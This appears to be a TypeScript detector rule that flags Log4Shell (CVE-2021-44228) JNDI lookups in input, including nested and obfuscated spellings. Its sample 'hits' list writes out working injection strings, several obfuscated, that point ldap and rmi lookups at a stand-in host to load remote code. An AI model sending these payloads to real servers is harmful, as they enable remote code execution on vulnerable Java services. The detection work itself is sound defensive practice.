import { defineAttack } from '../define-attack.ts';
import { sign } from '../signs.ts';

const roundsMax = 12;
const lengthMax = 4_096;
/** The innermost lookup: nothing nested in it. */
const innermost = /\$\{([^${}]{0,200})\}/g;

/** Lookups of Log4j that load code from elsewhere (CVE-2021-44228, CWE-917), also where they are spelled by nested lookups. */
export const log4jLookup = defineAttack({
  id: 'log4j-lookup',
  title: 'Log4Shell lookup',
  cwe: 'CWE-917',
  owasp: 'API8:2023',
  gates: [sign.dollar, sign.brace],
  features: {
    jndi: 'asks a directory for an object',
    nested: 'spells a lookup by others',
    environment: 'asks for the environment of the server',
  },
  look({ text }, _field, note) {
    const at = text.indexOf('${');
    if (at < 0) return;
    let plain = text.slice(at, at + lengthMax);
    let isNested = false;
    for (let round = 0; round < roundsMax; round += 1) {
      if (/\$\{\s*jndi\s*:/i.test(plain)) {
        note('jndi', at, text.length);
        if (isNested) note('nested', at, text.length);
        return;
      }
      const next = plain.replace(innermost, (_whole, body: string) => lookedUp(body));
      if (next === plain) break;
      if (
        /\$\{(?:env|sys|java|main|docker|k8s|spring|kubernetes|bundle|ctx|log4j|script|url|dns|const|base64decoder|urldecoder|file:utf-8|xml):[\w.]/i.test(
          plain,
        )
      )
        note('environment', at, text.length);
      isNested = true;
      plain = next;
    }
  },
  worst: (length) => '${a'.repeat(Math.ceil(length / 3)).slice(0, length),
  samples: {
    hits: [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
      '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
      '${script:javascript:x}',
      '${dns:address|evil.example}',
      '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example}',
    ],
    misses: ['${name}', '${user.home}', 'costs $5 {net}', '${lower:A}'],
  },
});

/** What a lookup comes to: its default, the text that it changes, or nothing. */
function lookedUp(body: string): string {
  const fallback = body.indexOf(':-');
  if (fallback >= 0) return body.slice(fallback + 2);
  const changed = /^(?:lower|upper|date|base64):(.*)$/is.exec(body);
  return changed?.[1]?.replaceAll("'", '') ?? '';
}
